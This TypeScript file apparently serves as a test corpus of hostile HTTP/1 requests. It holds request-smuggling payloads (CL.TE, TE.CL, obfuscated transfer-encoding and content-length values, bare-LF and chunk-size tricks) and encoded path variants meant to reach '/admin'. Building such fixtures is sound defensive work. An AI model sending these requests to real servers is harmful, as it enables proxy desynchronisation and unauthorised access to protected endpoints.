/**
 * Requests of HTTP/1 that try to be taken for another, or for two (RFC 9112 §11; James Kettle, "HTTP Desync Attacks", 2019). `HOST` stands
 * for the authority. Each tries to bring `GET /smuggled` to an origin as a request of its own.
 */
export interface HostileRequest {
  readonly name: string;
  /** Latin-1. */
  readonly bytes: string;
}

const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: HOST\r\n\r\n';
const head = (line: string, ...fields: string[]) => [line, 'Host: HOST', ...fields, '', ''].join('\r\n');
const post = (...fields: string[]) => head('POST /first HTTP/1.1', ...fields);
const get = (...fields: string[]) => head('GET /first HTTP/1.1', ...fields);
const length = (text: string) => `content-length: ${text}`;
const coding = (text: string) => `transfer-encoding: ${text}`;
const inside = String(smuggled.length);
const chunks = (...parts: string[]) => `${post(coding('chunked'))}${parts.join('')}`;

const both: HostileRequest[] = [
  { name: 'CL.TE', bytes: `${post(length('6'), coding('chunked'))}0\r\n\r\n${smuggled}` },
  { name: 'TE.CL', bytes: `${post(coding('chunked'), length('3'))}8\r\nSMUGGLED\r\n0\r\n\r\n${smuggled}` },
  { name: 'CL.0 beside a coding', bytes: `${post(length('0'), coding('chunked'))}${smuggled}` },
  { name: 'a length in a GET', bytes: `${get(length(inside))}${smuggled}` },
  { name: 'a length of 0, and more', bytes: `${get('Connection: close', length('0'))}${smuggled}` },
];

const codings: HostileRequest[] = [
  'xchunked',
  'chunked, identity',
  'identity, chunked',
  'chunked, chunked',
  'chunked ,',
  ', chunked',
  '"chunked"',
  'chunked;a=b',
  '\x0bchunked',
  'chun\x00ked',
  'chunked\x00',
  'identity',
  'gzip, chunked',
  '',
].map((text) => ({
  name: `coding ${JSON.stringify(text)}`,
  bytes: `${post(coding(text), length(inside))}${smuggled}`,
}));

const lengths: HostileRequest[] = [
  '-1',
  '+5',
  '0x5',
  '5 5',
  '5,5',
  '5, 6',
  '1e1',
  '',
  ' ',
  '5\x00',
  '5\x0b',
  '٥',
  '18446744073709551616',
  '99999999999999999999999999',
  '0000000000000000000000000005',
].map((text) => ({ name: `length ${JSON.stringify(text)}`, bytes: `${post(length(text))}hello${smuggled}` }));

const fields: HostileRequest[] = [
  { name: 'two lengths', bytes: `${post(length('5'), length('44'))}hello${smuggled}` },
  { name: 'the same length twice', bytes: `${post(length('5'), length('5'))}hello` },
  { name: 'two codings', bytes: `${post(coding('chunked'), coding('identity'))}0\r\n\r\n${smuggled}` },
  {
    name: 'a space before the colon of the coding',
    bytes: `${post('Transfer-Encoding : chunked', length(inside))}${smuggled}`,
  },
  { name: 'a space before the colon of the length', bytes: `${post(`Content-Length : ${inside}`)}${smuggled}` },
  { name: 'a tab in a name', bytes: get('X\tY: 1') },
  { name: 'a name of nothing', bytes: get(': 1') },
  { name: 'a line without a colon', bytes: get('nocolon') },
  { name: 'a folded line', bytes: get('x-fold: a', ' b') },
  { name: 'a folded coding', bytes: `${post('Transfer-Encoding:', ' chunked', length(inside))}${smuggled}` },
  { name: 'a first line that is folded', bytes: `GET /first HTTP/1.1\r\n Host: HOST\r\n\r\n` },
  { name: 'bare LF everywhere', bytes: get().replaceAll('\r\n', '\n') },
  {
    name: 'bare LF before the coding',
    bytes: `${post(`X: y\nTransfer-Encoding: chunked`, length(inside))}${smuggled}`,
  },
  { name: 'bare LF at the end of the head', bytes: `GET /first HTTP/1.1\r\nHost: HOST\r\n\n${smuggled}` },
  { name: 'CR in a value', bytes: `${post('X: y\rTransfer-Encoding: chunked', length(inside))}${smuggled}` },
  { name: 'CR alone at the end of a line', bytes: `GET /first HTTP/1.1\r\nHost: HOST\r\nX: y\r\rZ: 1\r\n\r\n` },
  { name: 'NUL in a value', bytes: get('X: a\0b') },
  { name: 'NUL in a name', bytes: get('X\0Y: a') },
  { name: 'a control character in a value', bytes: get('x: a\x01b') },
  { name: 'DEL in a value', bytes: get('x: a\x7fb') },
  { name: 'high bytes in a value', bytes: get('x: \xe9\xff') },
  { name: 'high bytes in a name', bytes: get('X\xe9: 1') },
  { name: 'no Host', bytes: 'GET /first HTTP/1.1\r\n\r\n' },
  { name: 'two Hosts', bytes: get('Host: other') },
  { name: 'a Host with a path', bytes: 'GET /first HTTP/1.1\r\nHost: HOST/x\r\n\r\n' },
  { name: 'a Host with a user', bytes: 'GET /first HTTP/1.1\r\nHost: a@HOST\r\n\r\n' },
  { name: 'too many fields', bytes: get(...Array.from({ length: 101 }, (_, i) => `X-${i}: 1`)) },
  { name: 'a field that is too long', bytes: get(`X: ${'a'.repeat(70_000)}`) },
  { name: 'a name that is too long', bytes: get(`${'x'.repeat(70_000)}: 1`) },
  { name: 'Connection names the length', bytes: `${post(length(inside), 'Connection: content-length')}${smuggled}` },
  {
    name: 'Connection names the coding',
    bytes: `${post(coding('chunked'), 'Connection: transfer-encoding')}0\r\n\r\n`,
  },
  { name: 'a request behind the last', bytes: `${get('Connection: close')}${smuggled}` },
  { name: 'an upgrade with a request behind it', bytes: `${get('Connection: upgrade', 'Upgrade: other')}${smuggled}` },
  {
    name: 'an HTTP/2 upgrade with a body',
    bytes: `${post('Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABk', length('5'))}hello`,
  },
  { name: 'Expect of something else', bytes: `${post('expect: tea', length('5'))}hello` },
];

const lines: HostileRequest[] = [
  'GET /first',
  'GET  /first HTTP/1.1',
  'GET /first  HTTP/1.1',
  'GET\t/first\tHTTP/1.1',
  'GET /first HTTP/1.1 ',
  ' GET /first HTTP/1.1',
  'GET /first HTTP/1.2',
  'GET /first HTTP/2.0',
  'GET /first HTTP/0.9',
  'GET /first http/1.1',
  'GET /first HTTP/1.1x',
  'GET /fi rst HTTP/1.1',
  'G@T /first HTTP/1.1',
  'GET first HTTP/1.1',
  'GET http://other/first HTTP/1.1',
  'GET http:///first HTTP/1.1',
  'GET ftp://other/first HTTP/1.1',
  'GET * HTTP/1.1',
  'GET /first\0 HTTP/1.1',
  'GET /fir\xe9st HTTP/1.1',
  'PRI * HTTP/2.0',
].map((line) => ({ name: `line ${JSON.stringify(line)}`, bytes: head(line) }));

const bodies: HostileRequest[] = [
  { name: 'a chunk size that is none', bytes: chunks('xyz\r\n', smuggled) },
  { name: 'a negative chunk size', bytes: chunks('-1\r\n', smuggled) },
  { name: 'a chunk size with a prefix', bytes: chunks('0x5\r\nhello\r\n0\r\n\r\n', smuggled) },
  { name: 'a chunk size that wraps around', bytes: chunks('10000000000000005\r\nhello\r\n0\r\n\r\n', smuggled) },
  { name: 'a chunk size of zeros', bytes: chunks('00000000000000000005\r\nhello\r\n0\r\n\r\n') },
  { name: 'a space before a chunk size', bytes: chunks(' 5\r\nhello\r\n0\r\n\r\n') },
  { name: 'a space behind a chunk size', bytes: chunks('5 \r\nhello\r\n0\r\n\r\n') },
  { name: 'a chunk extension', bytes: chunks('5;a=b\r\nhello\r\n0\r\n\r\n') },
  { name: 'a chunk extension with a bare LF', bytes: chunks('5;a\nhello\r\n0\r\n\r\n', smuggled) },
  { name: 'a chunk size with a bare LF', bytes: chunks('5\nhello\r\n0\r\n\r\n', smuggled) },
  { name: 'a chunk without its end', bytes: chunks('5\r\nhelloX\r\n0\r\n\r\n', smuggled) },
  { name: 'a chunk whose end is a bare LF', bytes: chunks('5\r\nhello\n0\r\n\r\n', smuggled) },
  { name: 'a last chunk with a bare LF', bytes: chunks('0\n\n', smuggled) },
  { name: 'a trailer that frames', bytes: chunks('0\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n') },
  { name: 'a trailer without a colon', bytes: chunks('0\r\nnonsense\r\n\r\n', smuggled) },
  { name: 'a trailer with a control character', bytes: chunks('0\r\nX: a\0b\r\n\r\n', smuggled) },
];

/** Paths of `/admin` in disguise. */
export const hostilePaths: readonly string[] = [
  '/admin',
  '//admin',
  '/./admin',
  '/x/../admin',
  '/x/%2e%2e/admin',
  '/%2e/admin',
  '/%61dmin',
  '/admin/',
  '/admin/.',
  '/admin//x',
  '/admin%2fx',
  '/admin%2Fx',
  '/admin%5cx',
  '/admin\\x',
  '/x%2f..%2fadmin',
  '/x\\..\\admin',
  '/..%2fadmin',
  '/../admin',
  '/admin%00',
  '/%00/admin',
  '/admin?x',
  '/admin#x',
  '/admin;x=y',
  '/ADMIN',
  '/admin%',
  '/admin%2',
  '/adm%69n',
  '/%2561dmin',
  '/open/..;/admin',
];

export const hostileRequests: readonly HostileRequest[] = [
  ...both,
  ...codings,
  ...lengths,
  ...fields,
  ...lines,
  ...bodies,
];
